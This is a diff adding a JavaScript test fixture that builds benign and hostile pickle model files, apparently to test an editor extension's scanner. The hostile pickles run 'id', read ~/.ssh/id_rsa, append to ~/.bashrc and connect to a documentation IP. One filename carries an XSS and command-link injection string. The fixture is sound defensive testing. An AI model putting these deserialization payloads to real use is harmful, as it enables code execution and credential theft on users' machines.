@@ -1,0 +1,92 @@
+/**
+ * The models of the editor tests, assembled opcode by opcode and never loaded here. The hostile ones do harmless things
+ * that look bad, with addresses that are reserved for documentation (RFC 5737).
+ */
+import { mkdir, writeFile } from 'node:fs/promises';
+import { dirname, join } from 'node:path';
+
+/** A list of three numbers. */
+const HARMLESS = Buffer.from([
+  0x80,
+  2,
+  ...Buffer.from('](K'),
+  1,
+  ...Buffer.from('K'),
+  2,
+  ...Buffer.from('K'),
+  3,
+  ...Buffer.from('e.'),
+]);
+
+const RUNS_A_COMMAND = call('posix', 'system', 'id');
+const ACTS_BADLY = call(
+  'builtins',
+  'exec',
+  `import os, socket
+os.system('id')
+try:
+    open(os.path.expanduser('~/.ssh/id_rsa')).read()
+except OSError:
+    pass
+with open(os.path.expanduser('~/.bashrc'), 'a') as file:
+    file.write('# left by a model')
+try:
+    socket.create_connection(('192.0.2.7', 443), 2).sendall(b'hello')
+except OSError:
+    pass
+`,
+);
+const NEVER_ENDS = call('builtins', 'exec', 'while True: pass');
+
+/** Paths in the workspace. */
+export const MODELS = {
+  harmless: 'harmless.pkl',
+  hostile: 'hostile.pkl',
+  endless: 'endless.pkl',
+  changing: 'changing.pkl',
+  doomed: 'doomed/in-a-folder.pkl',
+  pair: ['pair/one.pkl', 'pair/two.pkl'],
+  showcase: 'models/sentiment-classifier.pkl',
+  longPath: `${'a-folder-with-a-rather-long-name/'.repeat(6)}and-a-file-whose-name-is-not-short-either.pkl`,
+  /** Would be a link, an icon, markup and a reversed extension if any surface took it for more than a name. */
+  hostileName: 'names/[x](command:dynscan.showLog) $(bug) <img src=x onerror=alert(1)> \u202elkp.pkl',
+};
+
+const CONTENT = {
+  [MODELS.harmless]: HARMLESS,
+  [MODELS.hostile]: RUNS_A_COMMAND,
+  [MODELS.endless]: NEVER_ENDS,
+  [MODELS.changing]: RUNS_A_COMMAND,
+  [MODELS.doomed]: RUNS_A_COMMAND,
+  [MODELS.pair[0]]: HARMLESS,
+  [MODELS.pair[1]]: RUNS_A_COMMAND,
+  [MODELS.showcase]: ACTS_BADLY,
+  'models/tokenizer.pkl': HARMLESS,
+  'models/embeddings.pkl': HARMLESS,
+  [MODELS.longPath]: RUNS_A_COMMAND,
+  [MODELS.hostileName]: RUNS_A_COMMAND,
+  'notes.txt': Buffer.from('Not a model.\n'),
+};
+
+/** Writes them into a folder. */
+export async function makeModels(folder) {
+  for (const [path, content] of Object.entries(CONTENT)) {
+    await mkdir(dirname(join(folder, path)), { recursive: true });
+    await writeFile(join(folder, path), content);
+  }
+}
+
+/** `module.name(argument)`, protocol 2: PROTO, GLOBAL, BINUNICODE, TUPLE1, REDUCE, STOP. */
+function call(module, name, argument) {
+  const text = Buffer.from(argument);
+  const length = Buffer.alloc(4);
+  length.writeUInt32LE(text.length);
+  return Buffer.concat([
+    Buffer.from([0x80, 2]),
+    Buffer.from(`c${module}\n${name}\nX`),
+    length,
+    text,
+    Buffer.from([0x85]),
+    Buffer.from('R.'),
+  ]);
+}
